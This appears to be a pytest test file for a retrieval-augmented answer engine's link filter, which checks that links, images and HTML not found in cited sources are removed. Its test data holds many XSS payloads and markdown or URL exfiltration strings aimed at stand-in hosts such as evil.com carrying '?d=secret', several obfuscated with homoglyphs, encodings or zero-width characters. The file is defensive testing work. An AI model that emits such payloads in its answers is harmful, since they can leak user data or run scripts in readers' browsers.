"""Links, images and HTML in an answer: only what stands in the cited sources."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag_engine.answering.citations import check_answer
from rag_engine.answering.links import LinkFilter
from rag_engine.answering.markup import read_markup
from tests.answering.renderers import rendered
from tests.waiting import grows_with

SOURCE = (
    "Das Handbuch: https://docs.example.org/pump/manual_(v2). Bilder: ![Pumpe](img/pump.png), "
    "Hilfe: <https://help.example.org/de>, help@example.org. 请访问https://cn.example/水泵，谢谢。 "
    "<b>Achtung</b> www.example.org/a?b=c&d=e"
)


@pytest.mark.parametrize(
    "kept",
    [
        "Siehe https://docs.example.org/pump/manual_(v2).",
        "Siehe [das Handbuch](https://docs.example.org/pump/manual_(v2)).",
        "[https://help.example.org/de](https://help.example.org/de)",
        "(https://help.example.org/de)",
        "„https://help.example.org/de“",
        "help@example.org hilft.",
        "请看https://cn.example/水泵。",
        "<b>Achtung</b>",
        "www.example.org/a?b=c&d=e!",
        "Kein Link: 3 < 5, a.b, z. B. 1/2, and/or, Node.js, v1.2/v1.3, f(x)[y](z",
    ],
)
def test_what_stands_in_a_source_is_kept(kept):
    links = LinkFilter([SOURCE])
    assert links.clean(kept) == kept
    assert links.removed == 0


@pytest.mark.parametrize(
    ("written", "cleaned"),
    [
        ("https://evil.example/?q=secret", "[…]"),
        ("https://docs.example.org/pump/manual_(v2)?user=me", "[…]"),
        ("https://docs.example.org/pump", "[…]"),
        ("HTTPS://EVIL.EXAMPLE", "[…]"),
        ("![x](https://evil.example/a.png)", "x"),
        ("![](//evil.example/a.png)", ""),
        ("[klick](javascript:alert(1))", "klick"),
        ("[klick]( <data:text/html,hi> 'title')", "klick"),
        ("[a](evil.html)", "a"),
        ("[![x](https://evil.example/i)](https://evil.example/j)", "x"),
        ("[ref][r]\n\n[r]: https://evil.example/x", "ref\n\n[r] […]"),
        ("[r]: //evil.example", "[r] […]"),
        ("<https://evil.example>", "[…]"),
        ("www.evil.example", "[…]"),
        ("evil.example/path", "[…]"),
        ("ftp://evil.example/x.", "[…]."),
        ("mailto:a@evil.example", "[…]"),
        ("Schreib an chef@evil.example!", "Schreib an […]!"),
        ("<img src=x onerror=alert(1)>", ""),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<<i>script>alert(1)", "alert(1)"),
        ("<!-- x --><svg/onload=x>", ""),
        ("<img src=x onerror=alert(1)", "‹img src=x onerror=alert(1)"),
        ("请看www.evil.example", "请看[…]"),
        ("请写chef@evil.example", "请写[…]"),
        ("请看javascript:x", "请看[…]"),
        ("请看https://evil.example/水泵，谢谢。", "请看[…]，谢谢。"),
    ],
)
def test_what_stands_in_no_source_goes(written, cleaned):
    links = LinkFilter([SOURCE])
    assert links.clean(written) == cleaned
    assert links.removed >= 1 or cleaned.startswith("‹")


def test_text_that_follows_an_address_without_a_blank_is_parted_from_it():
    links = LinkFilter(["See https://a.example/x for more."])
    # Together they would be one address that carries the secret to a planted server.
    assert links.clean("https://a.example/x秘密") == "https://a.example/x 秘密"
    assert links.clean("https://a.example/x，secret") == "https://a.example/x ，secret"
    assert links.clean("https://a.example/x[secret]") == "https://a.example/x [secret]"
    assert links.removed == 0


def test_deep_nesting_loses_its_meaning():
    written = "<" * 50 + "b" + ">" * 50 + "[" * 50 + "x" + "](https://evil.example)" * 50
    cleaned = LinkFilter([]).clean(written)
    assert "<b" not in cleaned
    assert "](" not in cleaned
    assert "https" not in cleaned


def test_nothing_is_kept_without_a_source():
    assert LinkFilter([]).clean("a https://x.example b") == "a […] b"


ATTACKS = [
    "![x](https://[2001:db8::1]/p.png?d=secret)",
    "![x][i]\n\n[i]: https://[2001:db8::1]/p.png?d=secret",
    "https://[2001:db8::1]:8443/p?d=secret",
    "//[2001:db8::1]/p",
    "evil.example:8443/x?d=secret",
    "evil.com:8443/x?d=secret",
    "evil.com?d=secret",
    "evil.com#secret",
    "//evil.example/x",
    "x //evil.com",
    "evil.com",
    "EVIL.COM.",
    "sub.evil.co.uk",
    "127.0.0.1:8080/x?d=secret",
    "https://0x7f.1/x",
    "xn--80ak6aa92e.com",
    "https://xn--80ak6aa92e.com/x",
    "аррӏе.com",
    "https://аррӏе.com/x",
    "docs.exаmple.org/pump",
    "https://docs.exаmple.org/pump/manual_(v2)",
    "https://ev%69l.com/%2e%2e",
    "[x](https://evil%2eexample/x)",
    "https://evil。com/x",
    "evil。com/x",
    "[x](evil。com/x)",
    "ｈｔｔｐｓ：／／evil．com/x",
    "https://docs.example.org@evil.example/x",
    "https://docs.example.org:443@evil.example/x",
    "[x](https://docs.example.org\\@evil.example)",
    "https:\\\\evil.com\\x",
    "[x](https:\\\\evil.com)",
    "[x](/\\evil.com)",
    "[x](<https://evil.com/a b>)",
    "[x](<\thttps://evil.com>)",
    "[x]( \n https://evil.com\n 'title' )",
    "<a\nhref='https://ev\til.com'>x</a>",
    "<a href=//evil.com>x</a>",
    "<img src=https://evil.com/p.png>",
    "<IMG SRC='https://evil.com/p.png?d=secret' />",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<p>text</p><style>@import '//evil.com/s.css'</style>",
    "<https://evil.com/x>",
    "<ftp://evil.com>",
    "<javascript:alert(1)>",
    "<a@evil.com>",
    "[r]: <https://evil.com>\n\n[r]",
    "[r]: https://evil.com 'title'\n[r][]",
    "> [r]:\n> https://evil.com\n\n- [a][r]",
    "[r\\]]: https://evil.com\n\n[r\\]]",
    "[a [b][r] c](https://evil.com)\n\n[r]: //evil.com",
    "[![x](https://evil.com/i)](https://evil.com/j)",
    "[![x][r]][r]\n\n[r]: https://evil.com",
    "![a ![b](https://evil.com/b) c](https://evil.com/a)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD4=)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "&#104;ttps://evil.com/x",
    "https&colon;//evil.com/x",
    "https&#58;&#47;&#47;evil&#46;com",
    "evil&period;com",
    "ht\u200btps://evil.com",
    "https://ev\u200bil.com",
    "ev\u00adil.com",
    "\u2060https://evil.com\ufeff",
    "mailto:a@evil.com?body=secret",
    "[x](mailto:a@evil.com)",
    "xmpp:a@evil.com",
    "a.b+c@evil.com",
    "é@evil.com",
    "x[^1]\n\n[^1]: https://evil.com",
    "x[^1]\n\n[^1]: see https://evil.com",
    "www.evil.com",
    "WWW.evil.com/x",
    "http://localhost:11434/api",
    "https\\://evil.com",
    "https:\\/\\/evil.com",
    "| a | b |\n|---|---|\n| [x](https://evil.com) | [x](https://evil.com/2) |",
    "| a |\n|---|\n| `\\|` [x](https://evil.com) |",
    "# [x](https://evil.com) #",
    "[x](https://evil.com)\n===",
    "1. a\n   - [x](y.html)\n\t- ![z](y.png)",
    "**[x](y.html)** ~~![x](z)~~",
    "[1](https://evil.com) [2][r]\n\n[r]: evil",
    "[x][9](y.png)",
    "[x]【9】(y.png)",
    "[x]【<i>9</i>】(y.png)",
    "    <img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>",
    "<div>`</div>\n<img src=x>`",
    "看evil.com看",
    "看www.evil.com看",
    "例子.公司/x",
    "[r]\n\n[r]: evil('1x",
    "ev\u00adil.com。127.0.0.1:80/x?d=secret",
    "c127.0.0.1:8080/x?d=evil.com",
    "(a)//=y.evil.com",
    "пример.рф",
]


@pytest.mark.parametrize("written", ATTACKS)
def test_no_renderer_finds_a_target_in_what_is_left(written):
    for text in (written, f"Siehe {written}", f"> {written}", f"- {written}", f"请看{written}"):
        cleaned = check_answer(f"{text}", []).text
        # In code, tags are text to every reader of Markdown.
        targets, elements = rendered(cleaned, raw=not read_markup(cleaned).code)
        assert targets == set(), cleaned
        assert not elements & {"a", "img", "script", "style", "iframe", "svg", "onerror", "onload"}


UNTOUCHED = [
    "Der Druck beträgt 3.5 bar, nicht 3,5/4.0; siehe manual_de.pdf, README.md und main.py:12.",
    "z.B. um 12:30 Uhr, d.h. i.d.R. vor 10:05:33, Dr.-Ing. Meier, Nr.5, S.12ff., 1.000,00 €.",
    "v1.2/v1.3, 1.2.3.4, 192.168.0.0/24, python@3.11, ~/.bashrc, C:\\Users\\me, ../a/b.txt, /etc/x",
    "Use `<b>`, `[x](y)`, `https` and `user.id`; a < b > c, 3 <5, a<-b, f(x)[y](z, a & b, AT&T &c.",
    "```html\n<img src=x> [a](b) user.id\n```\n\n    <p> [c](d)\n",
    "Die Adressen 2001:db8::1 und ::1/128, std::vector::size, http: und https://",
    "La version 2.0.1 (cf. p. 3) coûte 12,50 € ; l'heure : 12:30.",
    "Версия 2.0 (см. с. 5), т.е. до 12:30, и т.д. и т.п.; 3.5 кг.",
    "版本2.0（见第3页），时间12:30。请看manual_zh.pdf：好。比例1:2。",
    "バージョン2.0、12:30まで。manual_ja.pdf。「注意」：『大切』。",
    "الإصدار 2.0 الساعة 12:30، صفحة 3.5؛ الملف manual_ar.pdf.",
    "संस्करण 2.0। समय 12:30। देखें manual_hi.pdf।",
    "รุ่น 2.0 เวลา 12:30 น. ดู manual_th.pdf",
    "Node.js, Vue.js and e.g. U.S.A., p.m., A.D.; x.y = a.b; foo.bar(baz); key:value; 50%",
    "[1] [2][1] text [a] [ ] [x] ![no] - [ ] todo\n* a\n1) b\n| a | b |\n|---|---|\n| `x` | [1] |",
    "# Titel\r\n\r\n> Zitat **fett** _kursiv_ \\* kein \\[Link\\](x\r\n\r\n---\r\n",
    "Ein\u00adtrag, Zero\u200bwidth, \ufeffBOM, ＡＢＣ１：全。&amp; &nbsp; &copy; 👩\u200d🔧\ufe0f",
    "data: 12, tel: 5, file:x, mailto: ja; javascript: eine Sprache; www. ist alt; @name, #tag",
]


@pytest.mark.parametrize("text", [*UNTOUCHED, "\n\n".join(UNTOUCHED)])
def test_text_without_links_is_unchanged_byte_for_byte(text):
    links = LinkFilter([SOURCE])
    assert links.clean(text) == text
    assert links.removed == 0


@pytest.mark.parametrize(
    ("written", "cleaned"),
    [
        ("std::vector<int> a;", "std::vector‹int> a;"),
        ("Bei evil.com steht", "Bei evil[.]com steht"),
        ("`see https://evil.com/x`", "`see […]`"),
        ("| [a](b) | c |\n|---|---|\n| [d](e) | [d](e) |", "| a | c |\n|---|---|\n| d | d |"),
        ("> - [a *b*](c 'd') [1](e)", "> - a *b* [1]"),
        ("[Fuß][1]\n\n[1]: manual.pdf\r\nmehr", "Fuß\n\n[1] manual.pdf\r\nmehr"),
        ("Die Pumpe läuft.\n\n![a](b.png)\n\n*3.5* bar", "Die Pumpe läuft.\n\na\n\n*3.5* bar"),
    ],
)
def test_only_the_target_goes_and_the_text_around_it_stays(written, cleaned):
    assert LinkFilter([SOURCE]).clean(written) == cleaned


@pytest.mark.parametrize(
    "kept",
    [
        "HTTPS://HELP.example.org/de",
        "http://www.example.org/a?b=c&d=e",
        "<https://help.example.org/de>",
        "[Hilfe][h]\n\n[h]: https://help.example.org/de",
        "[Hilfe](https://help.example.org/de 'Titel')",
        "![Pumpe](img/pump.png)",
        "[schreiben](mailto:help@example.org)",
        "[cn](https://cn.example/水泵)",
    ],
)
def test_what_leads_where_a_source_leads_is_kept(kept):
    links = LinkFilter([SOURCE])
    assert links.clean(kept) == kept
    assert links.removed == 0


PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "](", "]:", "][", "[r]", "[r]: ", "\n", "\n\n", "> ",
     "- ", "`", "```", "    ", "|", "|---|", "https://evil.com", "//evil.com", "evil.com",
     "y.png", "a@evil.com", "www.evil.com", "<img src=x>", "<b", "&lt;", "&#58;", "\\", "*",
     "_", ":", "/", "http", "x", " ", "1", "[9]", "【9】", "。", "\u200b", "\t", "'", "\"", "=",
     "<!--", "-->", "<div>", "</div>", "javascript:x"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@example(["[x]", "【9】", "(y.png)"])
@example(["_", "//evil.com", "_"])
@example(["_", "evil.com", "_"])
@given(st.lists(PIECES, max_size=25))
def test_whatever_is_put_together_leads_nowhere(pieces):
    cleaned = check_answer("".join(pieces), []).text
    targets, elements = rendered(cleaned, raw=False)
    assert targets == set(), cleaned
    assert not elements & {"a", "img", "script", "onerror"}, cleaned
    assert LinkFilter([]).clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "](",
        "<",
        "//!",
        "www.",
        "a@",
        "&#",
        "\\",
        "data:;",
        ")",
        "![a](b)",
        "[a]: b\n",
        "`",
        "a.",
        "> ",
    ],
)
def test_the_work_grows_with_the_text_and_no_faster(piece):
    def clean(times: int) -> None:
        LinkFilter([]).clean(piece * times)

    assert grows_with(clean, 500) < 1.6


def test_marks_and_links_do_not_bring_each_other_back():
    for mark, tag in itertools.product(("[9]", "【9】", "［9］"), ("", "<i>", "<b>")):
        text = check_answer(f"[x]{mark[0]}{tag}{mark[1:]}(y.png) [1].", []).text
        assert rendered(text)[0] == set()
